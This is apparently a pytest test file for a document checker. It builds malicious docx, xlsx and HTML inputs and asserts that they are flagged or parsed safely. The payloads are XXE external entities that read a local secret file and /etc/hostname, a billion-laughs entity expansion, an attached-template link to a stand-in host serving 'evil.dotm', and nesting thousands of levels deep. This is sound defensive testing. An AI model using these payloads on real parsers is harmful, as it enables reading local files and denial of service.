"""Markup that calls out, multiplies or nests without end."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from harm import SECRET, beside_others, kinds, part_of, sheet, with_part, word

from checker.model.dossier import ProblemKind


def entity(target: str) -> str:
    return f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "{target}">]>'


def laughs() -> str:
    steps = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE w:document [<!ENTITY a0 "哈">{steps}<!ENTITY x "&a11;">]>'


def armed(declaration: str, encoding: str = "utf-8") -> bytes:
    """A docx whose text calls the entity &x;."""
    package = word("记号")
    source = part_of(package, "word/document.xml").decode().partition("?>")[2].replace("记号", "前&x;后")
    return with_part(
        package,
        "word/document.xml",
        f'<?xml version="1.0" encoding="{encoding}"?>{declaration}{source}'.encode(encoding),
    )


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("padding", ["", "<!--" + "x" * 20000 + "-->"])
def test_docx_with_an_external_entity(tmp_path: Path, encoding: str, padding: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    source = beside_others(tmp_path, "实体.docx", armed(padding + entity(secret.as_uri()), encoding))
    assert kinds(source) == [ProblemKind.UNSAFE]
    assert source.pages == ()


def test_docx_with_entities_that_multiply(tmp_path: Path) -> None:
    assert kinds(beside_others(tmp_path, "笑.docx", armed(laughs()))) == [ProblemKind.UNSAFE]


def test_xlsx_with_an_entity(tmp_path: Path) -> None:
    package = sheet("marker")
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        name = next(part for part in archive.namelist() if b"marker" in archive.read(part))
    source = part_of(package, name).decode().replace("marker", "&x;")
    armed_part = re.sub(
        r"^(<\?xml[^>]*\?>)?", entity("file:///etc/hostname").replace("w:document", "sst"), source, count=1
    )
    assert kinds(beside_others(tmp_path, "实体.xlsx", with_part(package, name, armed_part.encode()))) == [
        ProblemKind.UNSAFE
    ]


def test_a_docx_that_calls_out_is_read_without_calling(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import socket

    def refused(*_: object) -> None:
        raise AssertionError("reading opened a connection")

    monkeypatch.setattr(socket, "socket", refused)
    package = word("处罚决定书")
    relations = part_of(package, "word/_rels/document.xml.rels").decode()
    link = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://203.0.113.1/evil.dotm" TargetMode="External"/></Relationships>'
    )
    called = with_part(
        package, "word/_rels/document.xml.rels", relations.replace("</Relationships>", link).encode()
    )
    source = beside_others(tmp_path, "外链.docx", called)
    assert (source.problems, source.pages[0].text) == ((), "处罚决定书")


@pytest.mark.parametrize("depth", [50, 3000])
def test_tables_in_tables_without_end(tmp_path: Path, depth: int) -> None:
    package = word("记号")
    source = part_of(package, "word/document.xml").decode()
    begin, end = source.index("<w:p"), source.index("<w:sectPr")
    nested = (
        "<w:tbl><w:tr><w:tc>" * depth
        + "<w:p><w:r><w:t>深处</w:t></w:r></w:p>"
        + "</w:tc></w:tr></w:tbl>" * depth
    )
    found_source = beside_others(
        tmp_path,
        "深.docx",
        with_part(package, "word/document.xml", (source[:begin] + nested + source[end:]).encode()),
    )
    assert any("深处" in page.text for page in found_source.pages) or kinds(found_source)[0] in (
        ProblemKind.DAMAGED,
        ProblemKind.TOO_DEEP,
    )


@pytest.mark.parametrize("depth", [100, 500, 1500, 20000])
def test_html_without_end(tmp_path: Path, depth: int) -> None:
    source = beside_others(
        tmp_path, "深.html", ("<p>前</p>" + "<div>" * depth + "深处" + "</div>" * depth).encode()
    )
    assert any("深处" in page.text for page in source.pages) or kinds(source)[0] in (
        ProblemKind.DAMAGED,
        ProblemKind.TOO_DEEP,
    )
